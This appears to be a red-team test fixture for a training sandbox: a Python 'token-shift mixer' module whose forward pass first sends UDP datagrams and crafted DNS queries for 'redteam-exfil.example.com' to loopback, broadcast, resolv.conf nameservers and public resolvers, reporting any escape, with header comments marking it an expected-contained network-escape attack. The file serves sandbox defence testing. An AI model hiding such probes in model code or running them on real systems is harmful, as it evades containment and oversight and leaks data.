# attack: exfiltrates over UDP (loopback, ::1, broadcast) and DNS (getaddrinfo, raw queries to the resolv.conf nameservers and to 127.0.0.1:47391)
# class: escape-network
# stopped-by: boundary:network-namespace
# expect: contained
"""Token-shift mixer that sends datagrams and DNS queries first."""

import random
import socket
import struct

from torch import Tensor, nn
from torch.nn import functional as F
from genesys_trainer.units import Unit


def dns_query(name: str) -> bytes:
    header = struct.pack(">HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return header + labels + b"\0" + struct.pack(">HH", 1, 1)


class DatagramSender(Unit):
    """Token-shift mixer that sends datagrams and DNS queries first."""

    done: str = ""

    def __init__(self, d_model: int, **context: int) -> None:
        super().__init__(d_model, **context)
        self.mix = nn.Linear(d_model, d_model, bias=False)
        self.up = nn.Linear(d_model, 4 * d_model, bias=False)
        self.down = self.residual(nn.Linear(4 * d_model, d_model, bias=False))

    @staticmethod
    def send() -> str:
        out, escaped = {}, []
        for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"),
                             (socket.AF_INET, "255.255.255.255")):
            try:
                with socket.socket(family, socket.SOCK_DGRAM) as sock:
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                    sock.sendto(b"REDTEAM datagram", (host, 47391))
                    sock.sendto(dns_query("redteam-exfil.example.com"), (host, 47391))
                out[host] = "sent"
            except OSError as exc:
                out[host] = f"<{exc.errno}>"
        try:
            resolved = socket.getaddrinfo("example.com", 443)
            escaped.append(f"resolved example.com: {resolved[0][4]}")
        except OSError as exc:
            out["getaddrinfo"] = f"<{exc}>"
        servers = []
        try:
            with open("/etc/resolv.conf") as handle:
                servers = [line.split()[1] for line in handle if line.startswith("nameserver")]
        except OSError as exc:
            out["resolv.conf"] = f"<{exc.errno}>"
        for server in [*servers, "8.8.8.8", "1.1.1.1"]:
            try:
                with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as sock:
                    sock.settimeout(1)
                    sock.sendto(dns_query("redteam-exfil.example.com"), (server, 53))
                    answer = sock.recv(512)
                escaped.append(f"dns answer from {server}: {len(answer)} bytes")
            except OSError as exc:
                out[server] = f"<{exc}>"
        marker = f"REDTEAM-ESCAPED[{escaped}] " if escaped else ""
        return marker + repr(out)

    def _forward(self, X: Tensor) -> Tensor:
        if not type(self).done:
            type(self).done = self.send()
        raise RuntimeError("datagram report: " + type(self).done)
        prev = F.pad(X[:, :-1], (0, 0, 1, 0))
        h = X + self.mix(prev)
        return h + self.down(F.gelu(self.up(h)))
